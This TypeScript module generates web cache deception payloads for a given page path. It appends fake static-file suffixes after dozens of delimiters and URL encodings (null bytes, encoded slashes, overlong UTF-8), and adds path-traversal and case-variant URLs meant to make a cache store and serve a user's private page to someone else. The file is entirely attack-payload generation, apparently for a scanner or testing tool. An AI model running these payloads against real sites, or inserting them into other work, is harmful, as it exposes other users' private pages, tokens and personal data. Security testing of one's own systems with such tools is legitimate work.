/** Targets that look like a file which anyone may have, and that some server answers with the page before it. */

const FILES = ['x.css', '.js', 'robots.txt'] as const

/** What some server takes for the end of the page's name. */
const DELIMITERS = [
  '/',
  ';',
  '%2f',
  '%2F',
  '?',
  '%3f',
  '%23',
  '%00',
  '%0a',
  '%0d',
  '%09',
  '%20',
  '%5c',
  '\\',
  '//',
  '/./',
  '/;/',
  '/x/../',
  '.',
  ',',
  '!',
  '$',
  '~',
  ':',
  '@',
  '&',
  '=',
  '+',
  '*',
  '|',
  '%7c',
  '%3b',
  '%252f',
  '%253b',
  '%2523',
  '%ff',
  '%c0%af',
  '%e2%80%a8',
  '/%2e/',
  '.php/',
  '/index.php/',
] as const

/** From the page to a folder of files, and back again, for those who resolve dots at another time than the cache. */
function traversals(page: string): string[] {
  const name = page.slice(1)
  return ['..%2f', '%2e%2e%2f', '..%5c', '..;/', '%2e%2e/', '../', '..%252f', '..\\', '..//', '.%2e/'].flatMap((up) => [
    `${page}/${up}static/x.js`,
    `${page}%2f${up}static/x.js`,
    `/static/${up}${name}`,
    `/static/${up}${name}?x.js`,
    `/static/x.js%2f${up}${up}${name}`,
    `/${up}${name}/x.css`,
    `/static%2f${up}${name}`,
  ])
}

/** Every way to ask for the page under this path in another's name. */
export function deceptions(page: string): readonly string[] {
  const ended = DELIMITERS.flatMap((delimiter) => FILES.map((file) => `${page}${delimiter}${file}`))
  const below = DELIMITERS.map((delimiter) => `${page}/settings${delimiter}x.css`)
  const other = [
    page,
    `${page}/`,
    page.toUpperCase(),
    `/${page}/x.css`,
    `${page.toUpperCase()}/X.CSS`,
    `/static${page}/x.css`,
    `/./${page}/x.js`,
  ]
  return [...new Set([...ended, ...below, ...other, ...traversals(page)])].filter((target) => !/[ \r\n]/.test(target))
}
